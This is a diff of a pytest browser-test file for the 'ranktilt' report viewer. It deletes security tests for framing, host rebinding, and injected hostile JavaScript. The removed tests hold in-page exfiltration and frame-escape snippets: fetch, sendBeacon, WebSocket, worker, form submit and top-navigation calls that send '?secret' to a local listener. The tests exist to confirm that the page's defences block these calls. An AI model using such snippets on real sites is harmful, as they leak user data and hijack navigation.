@@ -3,17 +3,14 @@
 from __future__ import annotations
 
 import json
-import threading
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, replace
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
 import pytest
 
 from ranktilt import audit
-from ranktilt.cli.serving import PageServer
 from ranktilt.reporting.reload import LoadedAudit
 from ranktilt.reporting.report import report_page
 from tests.reporting.browser import Browser, Chromium
@@ -294,120 +291,3 @@ def test_what_a_script_would_smuggle_in_is_stopped(browser: Browser, pages: Page
     assert {one.split()[0] for one in browser.stopped} == set(smuggled)
     assert browser.run("window.run ?? null") is None
     assert browser.requests == [pages.plain.as_uri()]
-
-
-@pytest.fixture
-def served(pages: Pages) -> Iterator[PageServer]:
-    """The hostile page as `ranktilt view` serves it."""
-    with PageServer() as server:
-        server.page = pages.hostile.read_bytes()
-        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.01})
-        thread.start()
-        yield server
-        server.shutdown()
-        thread.join()
-
-
-def test_a_served_page_asks_for_itself_alone(browser: Browser, served: PageServer) -> None:
-    browser.open(served.address)
-    query_opened(browser)
-    pair_opened(browser)
-    assert browser.requests == [served.address]
-    assert browser.complaints == []
-    assert browser.stopped == []
-    assert browser.run("window.run ?? null") is None
-
-
-def test_no_other_page_can_frame_a_served_one(browser: Browser, served: PageServer, tmp_path: Path) -> None:
-    path = tmp_path / "framing.html"
-    path.write_text(f"<!DOCTYPE html><title>x</title><iframe src='{served.address}'></iframe>", encoding="utf-8")
-    browser.open(path)
-    said = "\n".join(browser.complaints)
-    assert "frame-ancestors 'none'" in said
-    assert browser.do(lambda page: page.frames[1].locator("main").count()) == 0
-
-
-def test_another_name_for_this_machine_shows_nothing(browser: Browser, served: PageServer) -> None:
-    browser.open(served.address.replace("127.0.0.1", "rebound.localhost"))
-    assert browser.run("document.body.textContent.trim()") == "421 Misdirected Request"
-
-
-class Elsewhere(BaseHTTPRequestHandler):
-    """What a hostile page would reach: it notes every request."""
-
-    def do_GET(self) -> None:
-        self.server.heard.append(self.path)  # type: ignore[attr-defined]
-        self.send_error(404)
-
-    def do_POST(self) -> None:
-        self.do_GET()
-
-    def log_message(self, format: str, *args: object) -> None:
-        pass
-
-
-WAYS = {
-    "ways to load": """
-        const links = [['link', 'stylesheet'], ['link', 'prefetch']];
-        for (const [tag, rel] of [['img', ''], ['iframe', ''], ['script', ''], ...links])
-            document.head.append(Object.assign(document.createElement(tag), {src: to, href: to, rel}));
-        document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: `<img src=${to}>`}));
-        fetch(to, {mode: 'no-cors'}).catch(() => 0);
-        navigator.sendBeacon(to, 'x');
-        attempt(() => new WebSocket(to.replace('http', 'ws')));
-        attempt(() => new Worker(URL.createObjectURL(new Blob([`fetch("${to}")`]))));
-        attempt(() => localStorage.setItem('x', 1));""",
-    "ways out of the frame": """
-        attempt(() => { top.location.href = to; });
-        attempt(() => parent.document.body.remove());
-        attempt(() => window.open(to));
-        for (const target of ['_top', '_parent', '_blank']) {
-            const link = Object.assign(document.createElement('a'), {href: to, target, ping: to});
-            document.body.append(link);
-            link.click();
-        }
-        const form = document.body.appendChild(Object.assign(document.createElement('form'), {action: to}));
-        attempt(() => form.submit());""",
-    "itself": "location.href = to;",
-    "its refresh": "document.write(`<meta http-equiv=refresh content='0;url=${to}'>`);",
-    "another kind of address": "location.href = 'data:text/html,<img src=' + to + '>';",
-}
-
-
-@pytest.mark.parametrize("way", WAYS)
-def test_a_stranger_s_page_loads_nothing_and_leads_nowhere(browser: Browser, served: PageServer, way: str) -> None:
-    with ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere) as elsewhere:
-        elsewhere.heard = []  # type: ignore[attr-defined]
-        threading.Thread(target=elsewhere.serve_forever, kwargs={"poll_interval": 0.01}, daemon=True).start()
-        start = f"const to = 'http://127.0.0.1:{elsewhere.server_port}/?secret', tried = document.title = 'tried';"
-        attempt = "const attempt = (work) => { try { work(); } catch {} };"
-        served.page = f"<!DOCTYPE html><body><script>{start}{attempt}{WAYS[way]}</script>".encode()
-        served.framed = True
-        browser.open(served.address)
-        browser.run("new Promise(done => setTimeout(done, 500))")
-        assert (browser.run("location.href"), browser.do(lambda page: len(page.context.pages))) == (served.address, 1)
-        assert browser.run("document.querySelectorAll('iframe').length") == 1
-        assert elsewhere.heard == []  # type: ignore[attr-defined]
-        elsewhere.shutdown()
-
-
-def test_a_report_in_the_frame_is_whole(browser: Browser, served: PageServer) -> None:
-    served.framed = True
-    browser.open(served.address)
-    frame = browser.do(lambda page: page.frames[1])
-    drawn = (
-        "document.querySelector('.plot .main-svg') && document.querySelector('.explorer') && window.run === undefined"
-    )
-    browser.do(lambda _: frame.wait_for_function(drawn))
-    assert browser.do(lambda _: frame.evaluate("[origin, innerWidth]")) == ["null", 1280]
-    browser.do(lambda _: frame.evaluate("document.querySelector('.explorer').scrollIntoView({behavior: 'instant'})"))
-    browser.do(lambda _: frame.locator(".explorer button.open").first.click())
-    browser.do(lambda _: frame.locator(".explorer .results button.open").first.wait_for())
-    assert browser.requests == [served.address, f"{served.address}/page"]
-    assert browser.complaints == []
-
-
-def test_the_framed_page_is_nothing_to_open_by_itself(browser: Browser, served: PageServer) -> None:
-    served.framed = True
-    browser.open(f"{served.address}/page")
-    assert browser.run("document.body.textContent.trim()") == "404 Not Found"
